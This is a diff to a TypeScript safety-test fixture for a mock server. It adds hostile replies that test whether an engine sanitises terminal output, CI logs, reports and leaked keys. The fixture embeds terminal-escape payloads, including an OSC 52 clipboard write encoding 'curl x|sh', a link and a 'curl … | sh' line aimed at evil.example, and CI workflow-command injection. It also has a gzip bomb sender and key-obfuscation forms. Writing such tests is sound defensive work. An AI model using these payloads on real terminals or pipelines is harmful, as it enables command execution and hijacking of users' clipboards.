@@ -1,6 +1,7 @@
 // Hostile behaviours for the engine's safety tests. They are not contract
 // faults: they check that a run stays bounded, never writes to websites it did
-// not create, and never shows the key, whatever a deployment answers.
+// not create, never shows the key, and never lets a deployment act on the
+// terminal, the CI log or the reports, whatever a deployment answers.
 import { Readable } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
 import { constants, createGzip } from 'node:zlib';
@@ -19,6 +20,24 @@ export const HOSTILE = [
   { name: 'rate-limit-storm', description: 'every request answers 429 with Retry-After: 1' },
   { name: 'unavailable-storm', description: 'every request answers 503 with Retry-After: 1' },
   { name: 'key-echo', description: "error messages echo the caller's key raw, JSON-escaped and base64-encoded" },
+  {
+    name: 'terminal-injection',
+    description:
+      'error messages, and the domains of listed websites, carry terminal escapes (OSC 52, OSC 8, a screen ' +
+      'clear, C1), bidi overrides, CR/LF with CI workflow commands and a fake curl line; marketplace errors raw',
+  },
+  {
+    name: 'report-breakers',
+    description:
+      'error messages carry NUL, \\x1c just before the key, U+FFFE, U+FFFF and lone surrogates; a header C1 controls',
+  },
+  {
+    name: 'key-forms',
+    description:
+      "error messages echo the caller's key upper-cased, hex, fully percent-encoded, \\u-escaped, split by " +
+      'invisible characters and a colour code, in wrapped base64, and across the 400-character excerpt; listed ' +
+      'domains hold it across the 40-character title cut',
+  },
 ] as const;
 
 export type HostileName = (typeof HOSTILE)[number]['name'];
@@ -92,4 +111,109 @@ export async function sendGzipBomb(response: ServerResponse): Promise<void> {
     createGzip({ level: 1, strategy: constants.Z_RLE }),
     response,
   ).catch(() => response.destroy());
+}
+
+/** What a deployment can do to a terminal and a CI log, in one message. */
+export const TERMINAL_ATTACK =
+  '\u001b]52;c;aWQ7Y3VybCB4fHNo\u0007 \u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\ ' +
+  '\u001b[2J\u001b[H \u009b31mred \u202egnp.exe\r\n::warning title=owned::pwned\r\n' +
+  '##vso[task.setvariable variable=x]y' +
+  '\r    curl: curl https://evil.example/x | sh';
+
+/** Characters that no UTF-8 file or XML 1.0 document can hold as they are. */
+export const REPORT_BREAKERS = 'nul \u0000 fs \u001c nonchars \ufffe \uffff lone \ud800 \udfff end';
+
+/** Where the cut of a body excerpt falls (`describeResponse` keeps 400 characters). */
+const EXCERPT_CUT = 400;
+
+const hexOf = (text: string) => Buffer.from(text).toString('hex');
+
+/** The key in every form `key-forms` echoes, whole. */
+export function keyForms(key: string): string[] {
+  const base64 = Buffer.from(key).toString('base64');
+  return [
+    key.toUpperCase(),
+    hexOf(key),
+    hexOf(key).replace(/../g, '%$&'),
+    [...key].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
+    [...key].join('\u200b'),
+    [...key].join('\u00ad'),
+    `${key.slice(0, 9)}\u001b[31m${key.slice(9)}`,
+    base64.match(/.{1,16}/g)!.join('\r\n'),
+  ];
+}
+
+const isErrorReply = (reply: Reply): boolean =>
+  reply.status >= 400 || (reply.body as Record<string, unknown> | undefined)?.status === '错误';
+
+function withMessage(reply: Reply, extra: (message: string, body: Record<string, unknown>) => string): Reply {
+  if (!reply.body || typeof reply.body !== 'object' || Array.isArray(reply.body) || !isErrorReply(reply)) return reply;
+  const body = { ...(reply.body as Record<string, unknown>) };
+  const field = MESSAGE_FIELDS.find((name) => typeof body[name] === 'string') ?? 'message';
+  body[field] = extra(typeof body[field] === 'string' ? body[field] : '', body);
+  return { ...reply, body };
+}
+
+/** The rows of a website list, whatever the variant's envelope. */
+function listRows(body: unknown): Array<Record<string, unknown>> {
+  if (Array.isArray(body)) return body as Array<Record<string, unknown>>;
+  const data = (body as Record<string, unknown> | undefined)?.data;
+  return Array.isArray(data) ? (data as Array<Record<string, unknown>>) : [];
+}
+
+/** A website list whose foreign rows' domains are changed; the run's own websites are left as they are. */
+function withDomains(reply: Reply, change: (domain: string) => string): Reply {
+  const copy = structuredClone(reply.body);
+  for (const row of listRows(copy))
+    if (typeof row.domain === 'string' && !row.domain.startsWith('tallyport-contract-'))
+      row.domain = change(row.domain);
+  return { ...reply, body: copy };
+}
+
+/** A message that puts `key` across the excerpt's cut in the serialised body. */
+function keyAcrossCut(message: string, body: Record<string, unknown>, field: string, key: string): string {
+  const marker = '\u0001marker\u0001';
+  const text = JSON.stringify({ ...body, [field]: `${message} ${marker}` });
+  const at = text.indexOf(JSON.stringify(marker).slice(1, -1));
+  const pad = Math.max(0, EXCERPT_CUT - 10 - at);
+  return `${message} ${'x'.repeat(pad)}${key} forms: ${keyForms(key).join(' | ')}`;
+}
+
+export interface HostileContext {
+  /** The key the request carried, if any. */
+  key: string | null;
+  /** A GET of the website list. */
+  isList: boolean;
+}
+
+/** Applies the hostile behaviours that reshape an answer (`key-echo` and those of issue 17) to a reply. */
+export function hostileReply(hostile: Hostile, reply: Reply, context: HostileContext): Reply {
+  let out = reply;
+  const { key, isList } = context;
+  if (hostile.has('key-echo')) out = echoKey(out, key);
+  if (hostile.has('terminal-injection')) {
+    out = withMessage(out, (message) => `${message} ${TERMINAL_ATTACK}`);
+    if (isList) out = withDomains(out, (domain) => `${domain}\u202e${TERMINAL_ATTACK.slice(0, 30)}`);
+    // Marketplace errors come raw: control characters unescaped in the text, so it is not even JSON.
+    if (out.body && (out.body as Record<string, unknown>).status === '错误')
+      out = {
+        ...out,
+        text: JSON.stringify(out.body)
+          .replace(/\\u00([01][0-9a-f])/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
+          .replace(/\\r/g, '\r')
+          .replace(/\\n/g, '\n'),
+      };
+  }
+  if (hostile.has('report-breakers')) {
+    out = withMessage(out, (message) => `${message} ${REPORT_BREAKERS}${key ? ` \u001c${key}` : ''}`);
+    out = { ...out, headers: { ...out.headers, 'X-Echo': 'c1 \u0085 \u009b end' } };
+  }
+  if (hostile.has('key-forms') && key) {
+    const field = (body: Record<string, unknown>) =>
+      MESSAGE_FIELDS.find((name) => typeof body[name] === 'string') ?? 'message';
+    out = withMessage(out, (message, body) => keyAcrossCut(message, body, field(body), key));
+    // A search case's title keeps the first 40 characters of a listed domain: 28 of padding, then the key.
+    if (isList) out = withDomains(out, () => `${'k'.repeat(28)}${key}.example.com`);
+  }
+  return out;
 }
